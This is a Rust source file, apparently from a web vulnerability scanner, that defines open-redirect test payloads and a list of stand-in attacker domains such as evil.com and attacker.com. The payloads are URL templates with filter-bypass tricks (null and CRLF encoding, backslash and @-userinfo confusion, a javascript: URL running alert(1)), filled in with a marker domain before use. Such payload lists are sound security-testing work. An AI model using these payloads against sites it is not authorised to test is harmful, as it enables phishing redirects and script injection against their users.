/// Placeholder replaced by the per-attempt marker domain
pub const TARGET_PLACEHOLDER: &str = "TARGET";

/// Landing on any of these counts as an external redirect
pub static KNOWN_EXTERNAL_DOMAINS: &[&str] = &[
    "evil.com",
    "attacker.com",
    "google.com",
    "example.com",
    "loxs.test",
];

pub static REDIRECT_PAYLOADS: &[&str] = &[
    "//TARGET",
    "https://TARGET",
    "http://TARGET",
    "//TARGET/",
    "///TARGET",
    "////TARGET",
    "/\\TARGET",
    "\\/TARGET",
    "//TARGET%00",
    "//TARGET%0d%0a",
    "//TARGET@localhost",
    "//localhost@TARGET",
    "https://TARGET%2f%2f",
    "//TARGET\\@localhost",
    "javascript://TARGET/%0aalert(1)",
    "//TARGET?",
    "//TARGET#",
    "/%09/TARGET",
    "/%5cTARGET",
    "/.TARGET",
    "/TARGET/",
    "////\\;@TARGET",
    "https:TARGET",
    "//TARGET%E3%80%82evil.com",
];

pub fn instantiate(template: &str, marker: &str) -> String {
    template.replace(TARGET_PLACEHOLDER, marker)
}
